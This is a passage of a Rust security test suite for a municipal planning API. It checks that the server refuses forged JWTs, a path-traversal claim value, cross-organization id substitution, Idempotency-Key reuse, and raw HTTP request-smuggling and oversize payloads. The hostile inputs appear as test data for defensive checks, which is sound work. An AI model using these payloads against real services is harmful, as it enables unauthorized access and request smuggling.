            "roles holding numbers".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"roles": [1, 2]})),
                secret,
            ),
        ),
        (
            "units holding numbers".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"units": [1]})),
                secret,
            ),
        ),
        (
            "units that are not ids".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"units": ["../../etc"]})),
                secret,
            ),
        ),
        ("claims that are a list".into(), {
            let s = format!("{head}.{}", b64(b"[1,2,3]"));
            format!("{s}.{}", b64(&hmac_sha256(secret, s.as_bytes())))
        }),
        ("claims that are not JSON".into(), {
            let s = format!("{head}.{}", b64(b"not json"));
            format!("{s}.{}", b64(&hmac_sha256(secret, s.as_bytes())))
        }),
        (
            "claims that are not base64".into(),
            format!("{head}.!!!!.{sig}"),
        ),
        (
            "header that is not JSON".into(),
            format!("{}.{body}.{sig}", b64(b"not json")),
        ),
        ("four parts".into(), format!("{good_hs}.extra")),
        ("one part".into(), body.to_string()),
        ("empty".into(), String::new()),
        ("dots only".into(), "..".into()),
        ("whitespace inside".into(), format!("{head}. {body}.{sig}")),
        (
            "JWE-shaped (five parts)".into(),
            format!("{}.a.b.c.d", b64(br#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#)),
        ),
    ];
    let before = fingerprint(&app).await;
    for (name, token) in &attacks {
        // Read and write: neither may go through.
        let read = app.get("/api/v1/units", token).await;
        table.refused(format!("{name} (read)"), &read, &[401]);
        let write = app
            .post(
                "/api/v1/units",
                token,
                json!({"kind": "board", "name": "Kapad"}),
            )
            .await;
        table.refused(format!("{name} (write)"), &write, &[401]);
        let bearer_ok = read
            .header("www-authenticate")
            .is_some_and(|h| h.starts_with("Bearer"));
        table.check(
            format!("{name}: a Bearer challenge"),
            bearer_ok,
            format!("{:?}", read.header("www-authenticate")),
        );
    }
    // Not Bearer, or Bearer twice.
    for (name, value) in [
        ("Basic credentials", "Basic YWRtaW46YWRtaW4=".to_string()),
        ("no scheme", good_hs.clone()),
        ("Bearer twice", format!("Bearer Bearer {good_hs}")),
        ("two tokens", format!("Bearer {good_hs} {good_hs}")),
        ("Bearer and nothing", "Bearer ".to_string()),
    ] {
        let response = app
            .send(
                Method::GET,
                "/api/v1/units",
                None,
                None,
                &[("Authorization", value.as_str())],
            )
            .await;
        table.refused(name, &response, &[401]);
    }
    table.check(
        "jku and x5u were never fetched",
        matches!(bait.accept(), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "something connected to the URL a token named",
    );
    table.check(
        "nothing was written",
        fingerprint(&app).await == before,
        "the database changed",
    );
    table.finish();
}

/// A write naming another organization's record in `field`: 404, or a 422 that names the
/// field (so that it failed for that reference, not for something else in the body).
fn refused_for_the_field(table: &mut Table, name: String, response: &Resp, field: &str) {
    if response.status == 422 && is_problem(response) {
        let fields = response.error_fields();
        let named = fields.iter().any(|f| f == field) || response.text().contains(field);
        table.attack(
            name,
            named,
            format!("422 about {fields:?}, not `{field}`: {}", response.text()),
        );
    } else {
        table.refused(name, response, &[404]);
    }
}

fn hmac_sha256(key: &[u8], message: &[u8]) -> Vec<u8> {
    use hmac::{Hmac, Mac};
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(key).expect("any key length");
    mac.update(message);
    mac.finalize().into_bytes().to_vec()
}

// ---------------------------------------------------------------------------------------
// 8. Another organization's records (OWASP API1, broken object level authorization).

async fn another_organizations_records_are_out_of_reach(app: TestApp) {
    let (victim, mine) = two_worlds(&app).await;
    let mut table = Table::new(&app, "cross-organization");
    // A plan period without a vision, for the control of the vision below.
    let next_period = make(&app, &mine.admin, "/api/v1/plan-periods", json!({"name": "Mandatperioden 2015–2018", "start_date": "2015-01-01", "end_date": "2018-12-31"})).await;
    let before = fingerprint(&app).await;
    let spec = spec();

    // Every operation that names a record, with the victim's record in the attacker's hands.
    for (n, (method, template, operation)) in operations(&spec).into_iter().enumerate() {
        if !template.contains("{id}") {
            continue;
        }
        let token = token_as(&mine.org, &["admin"], &format!("b-admin-{n}"));
        let mut path = fill(&template, &victim, &mine.code);
        // Required query parameters that name records name the victim's too.
        let required: Vec<String> = operation["parameters"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .iter()
            .filter(|p| p["in"] == "query" && p["required"] == true)
            .filter_map(|p| {
                let name = p["name"].as_str()?;
                Some(format!("{name}={}", victim.id(kind_of_field(name)?)))
            })
            .collect();
        if !required.is_empty() {
            path = format!("{path}?{}", required.join("&"));
        }
        let body = if template.ends_with("/roll-over") {
            Some(
                json!({"name": "Mandatperioden 2015–2018", "start_date": "2015-01-01", "end_date": "2018-12-31"}),
            )
        } else if template.ends_with("/retire") {
            Some(
                json!({"revision": {"decision_reference": "KF 2012-06-14 § 77", "decided_on": "2012-06-14"}}),
            )
        } else if template.ends_with("/withdraw") {
            Some(json!({"reason": "Fel underlag"}))
        } else if method == Method::PATCH || operation["requestBody"].is_object() {
            Some(json!({}))
        } else {
            None
        };
        let response = app
            .send(
                method.clone(),
                &path,
                Some(&token),
                body.map(|b| b.to_string().into_bytes()),
                &[],
            )
            .await;
        table.refused(
            format!("{method} {template} with the victim's id"),
            &response,
            &[404],
        );
        let leaked = victim
            .ids
            .iter()
            .filter(|(kind, _)| **kind != "organization")
            .any(|(_, id)| response.text().contains(id.as_str()));
        table.check(
            format!("{method} {template}: no id of the victim's in the answer"),
            !leaked,
            describe(&response),
        );
    }

    // Every list filter that takes an id, given the victim's: an empty page.
    for (n, (method, template, operation)) in operations(&spec).into_iter().enumerate() {
        if method != Method::GET {
            continue;
        }
        let token = token_as(&mine.org, &["admin"], &format!("b-lister-{n}"));
        let path = fill(&template, &mine, &mine.code);
        for param in operation["parameters"]
            .as_array()
            .cloned()
            .unwrap_or_default()
        {
            let name = param["name"].as_str().unwrap_or_default();
            if param["in"] != "query" {
                continue;
            }
            let Some(kind) = kind_of_field(name) else {
                continue;
            };
            let response = app
                .get(&format!("{path}?{name}={}", victim.id(kind)), &token)
                .await;
            let name = format!("GET {template}?{name}=<victim's {kind}>");
            if response.status == 200 {
                let text = response.text();
                let leaked = victim
                    .ids
                    .iter()
                    .filter(|(kind, _)| **kind != "organization")
                    .any(|(_, id)| text.contains(id.as_str()));
                table.attack(name, !leaked, "the victim's records in the answer");
            } else {
                table.refused(name, &response, &[400, 404, 422]);
            }
        }
    }

    // Bodies that point the attacker's records at the victim's.
    let creates: Vec<(&str, Value)> = vec![
        (
            "/api/v1/units",
            json!({"kind": "administration", "name": "Förvaltningen", "parent_id": mine.id("board")}),
        ),
        (
            "/api/v1/reporting-periods",
            json!({"plan_period_id": mine.id("plan_period"), "kind": "tertial", "name": "Tertial 1 2012", "start_date": "2012-01-01", "end_date": "2012-04-30"}),
        ),
        (
            "/api/v1/visions",
            json!({"plan_period_id": next_period, "vision": "En annan vision.", "purpose": "Ett syfte.", "decided_by_unit_id": mine.id("council")}),
        ),
        (
            "/api/v1/perspectives",
            json!({"plan_period_id": mine.id("plan_period"), "name": "Ekonomi", "focus": "internal", "position": 2}),
        ),
        (
            "/api/v1/goals",
            json!({"plan_period_id": mine.id("plan_period"), "perspective_id": mine.id("perspective"), "owner_unit_id": mine.id("council"), "number": 2, "title": "Ett andra mål.", "decided_by_unit_id": mine.id("council")}),
        ),
        (
            "/api/v1/department-goals",
            json!({"goal_id": mine.id("goal"), "owner_unit_id": mine.id("board"), "number": 2, "title": "Ett andra nämndmål."}),
        ),
        (
            "/api/v1/indicators",
            json!({"goal_id": mine.id("goal"), "owner_unit_id": mine.id("board"), "name": "Ett andra nyckeltal", "unit_of_measure": "st", "direction": "higher_is_better"}),
        ),
        (
            "/api/v1/indicators",
            json!({"department_goal_id": mine.id("department_goal"), "name": "Ett tredje nyckeltal", "unit_of_measure": "st", "direction": "higher_is_better"}),
        ),
        (
            "/api/v1/measurements",
            json!({"indicator_id": mine.id("indicator"), "period": "2012", "value": 1}),
        ),
        (
            "/api/v1/activities",
            json!({"team_id": mine.id("team"), "goal_id": mine.id("goal"), "title": "En aktivitet"}),
        ),
        (
            "/api/v1/activities",
            json!({"team_id": mine.id("team"), "department_goal_id": mine.id("department_goal"), "title": "En annan aktivitet"}),
        ),
        (
            "/api/v1/follow-ups",
            json!({"reporting_period_id": mine.id("reporting_period"), "department_goal_id": mine.id("department_goal"), "reporting_unit_id": mine.id("board")}),
        ),
        (
            "/api/v1/contacts",
            json!({"role": "steering_group_member", "name": "Ledamot", "perspective_id": mine.id("perspective")}),
        ),
        (
            "/api/v1/contacts",
            json!({"role": "key_person", "name": "Nyckelperson 2", "unit_id": mine.id("administration")}),
        ),
    ];
    let mut kind_of_mine: BTreeMap<&str, &str> =
        mine.ids.iter().map(|(k, v)| (v.as_str(), *k)).collect();
    kind_of_mine.insert(next_period.as_str(), "plan_period");
    let mut controls = Vec::new();
    for (n, (path, body)) in creates.iter().enumerate() {
        let token = token_as(&mine.org, &["admin"], &format!("b-creator-{n}"));
        for (field, value) in body.as_object().expect("a body") {
            let Some(kind) = value.as_str().and_then(|v| kind_of_mine.get(v)) else {
                continue;
            };
            let mut hostile = body.clone();
            hostile[field] = json!(victim.id(kind));
            let response = app.post(path, &token, hostile).await;
            refused_for_the_field(
                &mut table,
                format!("POST {path} with the victim's {field}"),
                &response,
                field,
            );
        }
        controls.push((*path, body.clone(), token));
    }
    // Changes that point the attacker's records at the victim's, for every reference a
    // PATCH takes.
    for (n, (method, template, operation)) in operations(&spec).into_iter().enumerate() {
        if method != Method::PATCH {
            continue;
        }
        let schema_name = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"]
            .as_str()
            .unwrap_or_default()
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_string();
        let fields: Vec<String> = spec["components"]["schemas"][&schema_name]["properties"]
            .as_object()
            .map(|p| p.keys().cloned().collect())
            .unwrap_or_default();
        let token = token_as(&mine.org, &["admin"], &format!("b-patcher-{n}"));
        let path = fill(&template, &mine, &mine.code);
        for field in fields.iter().filter(|f| f.ends_with("_id")) {
            let Some(kind) = kind_of_field(field) else {
                continue;
            };
            let mut body = json!({field.as_str(): victim.id(kind)});
            let mut response = app.patch(&path, &token, body.clone()).await;
            if response.status == 422 && response.error_fields() == ["revision"] {
                // An adopted goal's content changes only with the decision behind it.
                body["revision"] = json!({"reason": "Ändrat.", "decision_reference": "KF 2012-01-01 § 1", "decided_on": "2012-01-01", "decided_by_unit_id": mine.id("council")});
                response = app.patch(&path, &token, body).await;
            }
            refused_for_the_field(
                &mut table,
                format!("PATCH {template} with the victim's {field}"),
                &response,
                field,
            );
        }
    }
    // Imports that name the victim's records by id or external id.
    let import = |rows: Value, dry: bool| {
        let token = token_as(&mine.org, &["admin"], "b-importer");
        let app = &app;
        async move {
            app.send(
                Method::POST,
                if dry {
                    "/api/v1/import?dry_run=true"
                } else {
                    "/api/v1/import"
                },
                Some(&token),
                Some(rows.to_string().into_bytes()),
                &[],
            )
            .await
        }
    };
    for (name, rows) in [
        (
            "an activity on the victim's team by id",
            json!([{"type": "activity", "team_id": victim.id("team"), "goal_id": mine.id("goal"), "title": "Kapad"}]),
        ),
        (
            "an activity on the victim's team by external id",
            json!([{"type": "activity", "team_external_id": "a-team", "goal_external_id": "b-goal", "title": "Kapad"}]),
        ),
        (
            "a measurement of the victim's indicator",
            json!([{"type": "measurement", "indicator_external_id": "a-indicator", "period": "2013", "value": 1}]),
        ),
        (
            "a unit under the victim's board",
            json!([{"type": "unit", "kind": "administration", "name": "Kapad", "parent_id": victim.id("board")}]),
        ),
        (
            "a goal in the victim's plan period",
            json!([{"type": "goal", "plan_period_external_id": "a-period", "perspective_external_id": "b-perspective", "owner_unit_external_id": "b-council", "number": 9, "title": "Kapad"}]),
        ),
    ] {
        let response = import(rows, false).await;
        table.refused(format!("import: {name}"), &response, &[422]);
    }
    // An upsert that names a victim's record as its external id makes a record of the
    // attacker's own, never changes the victim's (checked by the fingerprint below).
    let response = import(json!([{"type": "unit", "external_id": victim.id("board"), "kind": "board", "name": "Kapad"}]), true).await;
    table.attack(
        "import: the victim's id as external id upserts nothing of the victim's",
        response.status == 200 && response.json()["updated"] == 0,
        describe(&response),
    );
    // A Kolada import names municipality codes and KPIs; the victim's indicator of that KPI
    // is not touched (the import reads the caller's indicators only).
    let response = app
        .post("/api/v1/kolada/import", &token_as(&mine.org, &["admin"], "b-kolada"),
              json!({"values": [{"kpi": "N00945", "municipality": victim.code, "period": 2011, "values": [{"gender": "T", "value": 1.0, "count": 1, "status": ""}]}]}))
        .await;
    table.attack(
        "Kolada import of the victim's municipality",
        response.status == 200
            && response.json()["created"] == 0
            && response.json()["updated"] == 0,
        describe(&response),
    );
    table.check(
        "nothing of the victim's was written",
        fingerprint(&app).await == before,
        "the database changed",
    );

    // An Idempotency-Key the victim used is the victim's: the attacker's request with the
    // same key, path and body is its own, never the victim's stored answer.
    let unit = json!({"kind": "board", "name": "Socialnämnden"});
    let key = [("Idempotency-Key", "2011-budget-sync")];
    let theirs = app
        .send(
            Method::POST,
            "/api/v1/units",
            Some(&victim.admin),
            Some(unit.to_string().into_bytes()),
            &key,
        )
        .await;
    assert_eq!(theirs.status, 201, "{}", theirs.text());
    let token = token_as(&mine.org, &["admin"], &format!("{}-admin", "a"));
    for (who, token) in [
        ("the attacker", mine.admin.clone()),
        ("the attacker under the victim's subject", token),
    ] {
        let response = app
            .send(
                Method::POST,
                "/api/v1/units",
                Some(&token),
                Some(unit.to_string().into_bytes()),
                &key,
            )
            .await;
        let replayed = response.header("idempotency-replayed").is_some();
        let own = response.status == 201 && response.json()["organization_id"] == json!(mine.org);
        table.attack(
            format!("{who} with the victim's Idempotency-Key gets an answer of its own"),
            own && !replayed && response.id() != theirs.id(),
            describe(&response),
        );
    }

    // The same bodies with the attacker's own ids go through: the victim's id was all that
    // made them fail.
    for (path, body, token) in controls {
        let response = app.post(path, &token, body).await;
        table.check(
            format!("control: POST {path} with the attacker's own ids"),
            response.status == 201,
            describe(&response),
        );
    }
    // And the victim still reads its records.
    for kind in ["goal", "activity", "follow_up", "webhook_subscription"] {
        let collection = match kind {
            "goal" => "goals",
            "activity" => "activities",
            "follow_up" => "follow-ups",
            _ => "webhook-subscriptions",
        };
        let response = app
            .get(
                &format!("/api/v1/{collection}/{}", victim.id(kind)),
                &victim.admin,
            )
            .await;
        table.check(
            format!("the victim reads its {kind}"),
            response.status == 200 && response.json()["version"] == 1,
            describe(&response),
        );
    }
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 9. What the HTTP server itself refuses, on a real socket.

/// Sends raw bytes to the server and returns what it answers (until it closes).
fn raw_request(address: SocketAddr, bytes: Vec<u8>) -> String {
    let Ok(mut stream) = TcpStream::connect(address) else {
        return "no connection".into();
    };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
    // The server may answer and close before it has read everything.
    let _ = stream.write_all(&bytes);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).to_string()
}

async fn protocol_limits_on_a_real_server(app: TestApp) {
    let mut table = Table::new(&app, "HTTP protocol limits");
    let state = AppState {
        store: app.store.clone(),
        verifier: Verifier::hs256(crate::common::SECRET),
        body_limit: 64 * 1024,
        cors_origins: Vec::new(),
        idempotency_key_ttl: chrono::Duration::hours(24),
        import_limit: 8 * 1024 * 1024,
        rate_limit: RateLimit::new(RateLimitSettings::default()),
        security_headers: SecurityHeaders::default(),
        metrics: Default::default(),
    };
    let server = actix_web::HttpServer::new(move || build_app(state.clone()))
        .workers(1)
        .bind(("127.0.0.1", 0))
        .expect("a port");
    let address = server.addrs()[0];
    let server = server.run();
    let handle = server.handle();
    actix_web::rt::spawn(server);
    let token = app.admin();
    let before = fingerprint(&app).await;

    let get = |target: &str, extra: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n{extra}Connection: close\r\n\r\n").into_bytes()
    };
    let many_headers: String = (0..120).map(|i| format!("X-H{i}: {i}\r\n")).collect();
    let body = json!({"kind": "board", "name": "Smuggel"}).to_string();
    let chunked_big = {
        let chunk = "a".repeat(16 * 1024);
        let mut b = format!("POST /api/v1/units HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
        for _ in 0..8 {
            b.push_str(&format!("{:x}\r\n{chunk}\r\n", chunk.len()));
        }
        b.push_str("0\r\n\r\n");
        b.into_bytes()
    };
    // (name, request, status lines allowed, whether the answer comes from the app)
    let attacks: Vec<(&str, Vec<u8>, &[&str], bool)> = vec![
        ("a header of 200 KiB", get("/api/v1/units", &format!("X-Big: {}\r\n", "b".repeat(200 * 1024))), &["HTTP/1.1 431"], false),
        ("120 headers", get("/api/v1/units", &many_headers), &["HTTP/1.1 400", "HTTP/1.1 431"], false),
        ("a URI of 10 KiB", get(&format!("/api/v1/units?cursor={}", "c".repeat(10 * 1024)), ""), &["HTTP/1.1 414"], true),
        ("a URI of 200 KiB", get(&format!("/api/v1/units?cursor={}", "c".repeat(200 * 1024)), ""), &["HTTP/1.1 431"], false),
        ("bytes that are not UTF-8 in the path", [&b"GET /api/v1/units/\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"[..]].concat(), &["HTTP/1.1 400", "HTTP/1.1 404"], false),
        ("a control character in a header", b"GET /api/v1/units HTTP/1.1\r\nHost: x\r\nX-Bad: a\x01b\r\nConnection: close\r\n\r\n".to_vec(), &["HTTP/1.1 400", "HTTP/1.1 401"], false),
        ("a request line that is not HTTP", b"HELLO THERE\r\n\r\n".to_vec(), &["HTTP/1.1 400"], false),
        // Transfer-Encoding wins (RFC 9112 §6.3): the body is the empty chunked one, and
        // what follows is not read as a request of its own.
        ("Content-Length and Transfer-Encoding (smuggling)", format!("POST /api/v1/units HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n{body}", body.len()).into_bytes(), &["HTTP/1.1 400"], false),
        ("two Content-Lengths", format!("POST /api/v1/units HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len()).into_bytes(), &["HTTP/1.1 400"], false),
        ("a Content-Length that is not a number", format!("POST /api/v1/units HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\nConnection: close\r\n\r\n{body}").into_bytes(), &["HTTP/1.1 400"], false),
        ("a chunked body over the limit", chunked_big, &["HTTP/1.1 413"], true),
        ("a Content-Length over the limit", format!("POST /api/v1/units HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: 100000000\r\nConnection: close\r\n\r\n{body}").into_bytes(), &["HTTP/1.1 413"], true),
    ];
    for (name, request, allowed, from_app) in attacks {
        let answer = actix_web::web::block(move || raw_request(address, request))
            .await
            .unwrap_or_default();
        let status_line = answer.lines().next().unwrap_or("(closed)").to_string();
        let ok = allowed.iter().any(|s| status_line.starts_with(s));
        table.attack(name, ok, &status_line);
        if from_app {
            let lower = answer.to_ascii_lowercase();
            table.check(
                format!("{name}: problem+json with the security headers"),
                lower.contains("content-type: application/problem+json")
                    && lower.contains("x-content-type-options: nosniff"),
                answer.chars().take(400).collect::<String>(),
            );
        }
    }
    // The server still answers.
    let answer = actix_web::web::block(move || {
        raw_request(
            address,
            b"GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".to_vec(),
        )
    })
    .await
    .unwrap_or_default();
    table.check(
        "the server still answers",
        answer.starts_with("HTTP/1.1 200"),
        answer.lines().next().unwrap_or_default(),
    );
    table.check(
        "nothing was written",
        fingerprint(&app).await == before,
        "the database changed",
    );
    handle.stop(false).await;
    table.finish();
}

backend_tests!(
    security_headers_on_every_answer,
    rate_limit_per_caller_and_address,
    csv_injection_is_neutralised_and_round_trips,
    oversized_and_malformed_input,
    sql_metacharacters_in_every_filter,
    sql_metacharacters_in_text_are_stored_verbatim,
    path_traversal_in_every_path_parameter,
    jwt_attacks_are_refused,
    another_organizations_records_are_out_of_reach,
    protocol_limits_on_a_real_server,
);
